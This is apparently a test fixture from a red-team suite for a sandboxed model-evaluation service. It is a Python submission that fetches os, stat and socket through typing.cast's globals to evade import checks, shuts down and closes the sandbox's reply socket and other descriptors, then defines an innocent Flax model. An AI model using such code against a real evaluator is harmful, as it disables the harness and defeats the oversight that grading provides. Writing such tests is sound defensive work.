# expect: crash
# kind: take-down
# attack: close every fd above 2 (the reply socket included) and shut the socket down first, then define a normal model; the reply can never be sent and the evaluator sees a sandbox that died without a reply
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
MODS = AG("modules")(AG("__globals__")(typing.cast)["sys"])
OS, STAT, SOCKET = MODS["os"], MODS["stat"], MODS["socket"]
for fd in range(3, 64):
    try:
        if STAT.S_ISSOCK(OS.fstat(fd).st_mode):
            AG("socket")(SOCKET)(fileno=OS.dup(fd)).shutdown(2)
    except Exception:
        pass
OS.closerange(3, 4096)


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(nn.relu(nn.Dense(26)(x)))
